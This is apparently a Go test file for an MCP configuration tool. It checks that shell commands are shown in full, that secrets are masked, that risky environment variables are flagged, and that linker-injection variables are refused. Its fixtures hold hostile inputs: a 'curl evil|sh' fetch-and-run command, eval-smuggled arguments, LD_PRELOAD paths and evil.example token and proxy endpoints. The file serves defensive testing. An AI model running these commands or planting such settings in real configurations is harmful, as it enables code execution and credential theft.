package stack

import (
	"strings"
	"testing"

	"github.com/mcphud/mcphud/session/test/require"
	"github.com/mcphud/mcphud/session/test/require/assert"
)

// Masking must not hide what would run: an argument or variable that a shell would take apart is shown in full.
func TestDescribeShowsWhatWouldRun(t *testing.T) {
	long := strings.Repeat(" ", 5000)
	for name, c := range map[string]struct{ server, want string }{
		"assignment":       {`{command: sh, args: ['-c', 'token=$(curl evil|sh)']}`, `files: sh -c "token=$(curl evil|sh)"`},
		"argument of flag": {`{command: sh, args: ['-c', 'eval "$1"', x, --token, 'touch x']}`, `files: sh -c "eval \"$1\"" x --token "touch x"`},
		"variable":         {`{command: sh, args: ['-c', 'eval "$API_KEY"'], env: {API_KEY: 'touch x'}}`, `files: sh -c "eval \"$API_KEY\""; with API_KEY="touch x"`},
		"spaces":           {`{command: sh, args: ['-c', '` + long + `touch x']}`, `files: sh -c "` + long + `touch x"`},
		"letters":          {`{command: sh, args: ['-c', ': ` + strings.Repeat("a", 5000) + `; touch x']}`, strings.Repeat("a", 5000) + `; touch x"`},
		"bounds":           {`{command: sh, args: ['-c', 'a b', 'c']}`, `files: sh -c "a b" c`},
		"other bounds":     {`{command: sh, args: ['-c', 'a', 'b c']}`, `files: sh -c a "b c"`},
		"numbers":          {`{command: sh, args: ['1'], env: {A: '2'}}`, `files: sh 1; with A=2`},
		"no argument":      {`{command: sh, args: ['']}`, `files: sh ""`},
		"secrets":          {`{command: x, args: [--token, hidden, --key=hidden], env: {API_KEY: "${TOKEN}", PLAIN: "Bearer ${TOKEN}; x"}}`, `files: x --token *** --key=***; with API_KEY=***, PLAIN="Bearer ***; x"; given TOKEN`},
		"login":            {`{command: x, env: {T: "${oauth.token}"}, oauth: {auth_url: "https://a.example/x", token_url: "https://a.example/t"}}`, `files: x; with T="${oauth.token}"; login at https://a.example/x; tokens from https://a.example/t; token in T`},
		"headers":          {`{url: "https://mcp.example/mcp", headers: {X-Plain: "${TOKEN}"}}`, `files: contact https://mcp.example/mcp; with header X-Plain: ***; given TOKEN`},
	} {
		f, err := source.Parse("/p/x.yaml", []byte("servers:\n  files: "+c.server+"\nrouter: false\n"))
		require.NoError(t, err)
		if got := strings.Join(f.Describe(), "\n"); !strings.HasSuffix(got, c.want) {
			t.Errorf("%s:\n%s\nwant\n%s", name, got, c.want)
		}
		f, err = source.Parse("/p/x.yaml", []byte("router: {routes: {files: "+c.server+"}}\n"))
		require.NoError(t, err)
		if got := f.Describe()[0]; f.Foreign() != strings.Contains(c.server, "command") || !strings.HasSuffix(got, c.want) {
			t.Errorf("%s as a route:\n%s\nwant\n%s", name, got, c.want)
		}
	}
}

// A variable can make a process of this program load code, or trust and contact others.
func TestForeign(t *testing.T) {
	for text, want := range map[string]bool{
		`agents: {a: {}}`: false,
		`agents: {a: {env: {AGENT_TOKEN: x, AGENT_MODEL_KEY: y, ROUTER_HOST: z, OTEL_SERVICE_NAME: a}}}`: false,
		"agents: {a: {}}\nrouter: {env: {OTEL_SERVICE_NAME: a}}":                                         false,
		`servers: {a: {url: "http://127.0.0.1:1/"}}`:                                                     false,
		`agents: {a: {env: {AGENT_STORE: "postgres://h/d", PGPASSWORD: x}}}`:                             false,
		`agents: {a: {env: {PGSSLROOTCERT: x}}}`:                                                         true,
		`agents: {a: {env: {PATH: /evil}}}`:                                                              true,
		`agents: {a: {env: {MCPHUD_SANDBOX_WORKER: "1"}}}`:                                               true,
		"agents: {a: {}}\nrouter: {env: {SSL_CERT_FILE: x}}":                                             true,
		`servers: {a: {command: x}}`:                                                                     true,
		`router: {routes: {a: {command: x}}}`:                                                            true,
	} {
		f, err := source.Parse("/p/x.yaml", []byte(text))
		require.NoError(t, err)
		assert.Equalf(t, f.Foreign(), want, "%s", text)
	}
}

// Variables of the dynamic linker load code into this very program: no question makes that safe.
func TestVariablesOfTheLinkerAreRefused(t *testing.T) {
	for text, want := range map[string]string{
		`agents: {a: {env: {LD_PRELOAD: /path/x.so}}}`:                           "agents.a.env.LD_PRELOAD",
		"agents: {a: {}}\nrouter: {env: {LD_PRELOAD: /path/x.so}}":               "router.env.LD_PRELOAD",
		"agents: {a: {}}\nrouter: {env: {DYLD_INSERT_LIBRARIES: /path/x.dylib}}": "router.env.DYLD_INSERT_LIBRARIES",
	} {
		if _, err := source.Parse("/p/x.yaml", []byte(text)); err == nil || !strings.Contains(err.Error(), want+" is refused") {
			t.Errorf("%s: %v", text, err)
		}
	}
}

// Whatever decides whom a route contacts, through whom and by what trust, stands in the question: of servers and of routes of the router.
func TestDescribeLeavesNoWayOut(t *testing.T) {
	const route = `{urls: ["https://evil.example/mcp", "https://b.example/mcp"], proxy: "http://evil.example:8080", ca: /tmp/evil.pem, clientCert: /tmp/c.pem, clientKey: /tmp/k.pem}`
	for text, want := range map[string][]string{
		`router: {routes: {a: ` + route + `}}`: {"https://evil.example/mcp", "https://b.example/mcp", "through http://evil.example:8080", "trusting /tmp/evil.pem", "reading /tmp/c.pem", "/tmp/k.pem"},
		`router: {routes: {a: {url: "https://h.example/mcp", insecure: true, oauth: {token_url: "https://evil.example/token", client_secret: hunter2}}}}`: {"trusting any certificate", "https://evil.example/token"},
		`servers: {a: {url: "https://h.example/mcp", ca: /tmp/evil.pem, oauth: {token_url: "https://evil.example/token"}}}`:                               {"trusting /tmp/evil.pem", "https://evil.example/token"},
	} {
		f, err := (Source{}).Parse("/p/x.yaml", []byte(text+"\n"))
		if err != nil {
			t.Fatalf("%s: %v", text, err)
		}
		about := strings.Join(f.Describe(), "\n")
		for _, w := range want {
			if !strings.Contains(about, w) {
				t.Errorf("%s\n shows no %q: %s", text, w, about)
			}
		}
		assert.NotContains(t, about, "hunter2")
	}
}
